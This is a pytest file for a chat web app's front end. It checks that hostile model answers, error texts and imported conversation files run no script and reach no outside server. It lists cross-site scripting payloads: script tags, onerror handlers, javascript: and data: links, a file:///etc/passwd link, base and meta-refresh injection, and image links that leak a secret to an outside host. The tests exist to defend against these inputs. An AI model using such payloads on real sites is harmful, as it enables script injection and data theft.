"""What a model writes does nothing but stand there: no script, no request, no way out of the page."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from tests.server.fake_api import Answer, FakeApi, serving

if TYPE_CHECKING:
    from tests.server.browser import Page

# {other}: a server that must hear nothing; {own}: the page's own server, which the policy lets pictures come from.
ATTACKS = [
    "<script>document.title = 'taken'</script>",
    "<img src={other}/html.png onerror=\"document.title = 'taken'\">",
    "<img src=\"{own}/beacon/html\">",
    "<svg onload=\"document.title = 'taken'\"><iframe src=\"{other}/frame\"></iframe>",
    "<link rel=stylesheet href={other}/style.css><style>@import '{other}/import.css';</style>",
    "![chart]({other}/chart.png?secret=1)",
    "![own]({own}/beacon/own)",
    "[![deep]({other}/deep.png)]({other}/page)",
    "![data](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[click](javascript:document.title='taken')",
    "[click](JaVaScRiPt:document.title='taken') [x](&#106;avascript:alert(1)) [y](java\tscript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>) [v](vbscript:x) [f](file:///etc/passwd) [u](//evil.example/x)",
    "[a](http://a\"onmouseover=\"document.title='taken') <http://b\"onclick=\"x>",
    "[title](http://a.example \"x\\\" onmouseover=alert(1) y\")",
    "```html\"><script>document.title='taken'</script>\n<script>document.title='taken'</script>\n```",
    "| <img src={other}/cell.png> | ![c]({other}/c2.png) |\n|---|---|\n| <script>document.title='taken'</script> | x |",
    "# <img src={other}/head.png onerror=alert(1)>\n> <script>document.title='taken'</script>\n- ![l]({other}/l.png)",
    "</div></article><base href={other}/><meta http-equiv=refresh content=\"0;url={other}/gone\">",
    "[constructor](http://x.example) [__proto__](http://y.example) `${{document.title='taken'}}`",
]  # fmt: skip


@pytest.fixture
def heard() -> list[str]:
    """The addresses that the other server was asked for."""
    return []


@pytest.fixture
def other(heard: list[str]) -> Iterator[str]:
    async def hear(request: Request) -> Response:
        heard.append(request.url.path)
        return Response("", headers={"Access-Control-Allow-Origin": "*"})

    with serving(Starlette(routes=[Route("/{path:path}", hear, methods=["GET", "POST"])])) as url:
        yield url


def assert_nothing_happened(page: Page, api: FakeApi, heard: list[str]) -> None:
    page.wait(lambda: page.run("return document.readyState") == "complete")
    title = page.browser.title
    page.run("return new Promise((resolve) => setTimeout(resolve, 300))")  # what loads, begins to by now
    assert (heard, api.paths) == ([], [])
    assert title != "taken"
    assert page.browser.current_url.startswith(page.url)
    bad = page.run(
        """
        const names = "script, img, svg:not(:has(> path)), iframe, link, style, meta, base, object, form";
        const nodes = [...document.querySelectorAll(".markdown *")];
        return nodes.filter((node) => node.matches(names) || node.getAttributeNames().some((name) =>
            !["class", "dir", "href", "title", "target", "rel", "start", "type", "tabindex", "role", "aria-label",
              "aria-hidden", "viewBox", "d"].includes(name))).map((node) => node.outerHTML);
        """
    )
    assert bad == []
    for link in page.find(".markdown a"):
        assert (link.get_attribute("href") or "").startswith(("http://", "https://"))
        assert (link.get_attribute("rel"), link.get_attribute("target")) == ("noopener noreferrer", "_blank")


def test_hostile_answers_do_nothing(page: Page, api: FakeApi, other: str, heard: list[str]) -> None:
    attacks = [attack.format(other=other, own=page.url) for attack in ATTACKS]
    api.say("\n\n".join(attacks), *attacks)
    for _ in range(len(attacks) + 1):
        page.ask("Go.")
    assert_nothing_happened(page, api, heard)
    assert "<script>document.title = 'taken'</script>" in page.answers()[0]
    assert page.one(f'.markdown a[href="{other}/chart.png?secret=1"]').text == "chart"
    assert page.complaints() == []
    # And when read back from the history, and as what the user said.
    page.browser.refresh()
    page.wait(lambda: len(page.answers()) == len(attacks) + 1)
    page.ask(" ".join(attacks).replace("\n", " ").replace("\t", " "))
    assert_nothing_happened(page, api, heard)
    assert page.complaints() == []


def test_a_hostile_error(page: Page, api: FakeApi, other: str, heard: list[str]) -> None:
    attack = f"<img src={other}/error.png onerror=\"document.title='taken'\">"
    api.say(Answer(error=(400, attack)))
    page.ask("Go.")
    assert page.texts(".answer .problem") == [attack]
    assert_nothing_happened(page, api, heard)


def test_a_hostile_file_of_conversations(
    page: Page, api: FakeApi, other: str, heard: list[str], tmp_path: Path
) -> None:
    attack = f"<img src={other}/title.png onerror=\"document.title='taken'\">"
    bad = {"name": attack, "url": f"{other}/picture.png", "width": 8, "height": 8}
    pictures = [bad, {**bad, "url": f"{page.url}/beacon/x"}, {**bad, "url": "javascript:alert(1)"}, None, 3]
    messages = [{"role": "user", "text": attack, "pictures": pictures}, {"role": "system", "text": {"a": 1}}, None]
    messages.append({"role": "assistant", "text": attack, "state": "running", "error": {}, "figures": {"rate": "x"}})
    file = tmp_path / "bad.json"
    conversations = [{"id": "../x", "title": attack, "messages": messages, "updated": "now"}, None]
    file.write_text(json.dumps({"format": "mlxvlm conversations 1", "conversations": conversations}))
    page.one("#import-file").send_keys(str(file))
    page.wait(lambda: attack in page.texts("#conversations a"))
    page.find("#conversations a")[page.texts("#conversations a").index(attack)].click()
    page.wait(lambda: page.answers() == [attack])
    assert page.find(".picture") == []
    assert_nothing_happened(page, api, heard)


def test_the_policy_holds_should_the_page_fail(page: Page, other: str, heard: list[str]) -> None:
    """Were a script or an element to get in after all, the browser itself refuses."""
    assert page.run(
        """
        try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); return "inserted"; }
        catch (error) { return error.name; }
        """
    ) == "TypeError"  # fmt: skip
    page.run(
        """
        const [other] = arguments;
        const image = document.createElement("img");
        image.src = `${other}/image.png`;
        const frame = document.createElement("iframe");
        frame.src = `${other}/frame`;
        const form = document.createElement("form");
        form.action = `${other}/form`;
        form.method = "post";
        document.body.append(image, frame, form);
        form.submit();
        navigator.sendBeacon(`${other}/beacon`);
        return fetch(`${other}/fetch`).then(() => "sent", () => "refused");
        """,
        other,
    )
    page.run("return new Promise((resolve) => setTimeout(resolve, 300))")
    assert heard == []
    assert page.browser.current_url.startswith(page.url)
    assert any("Content Security Policy" in line for line in page.complaints())
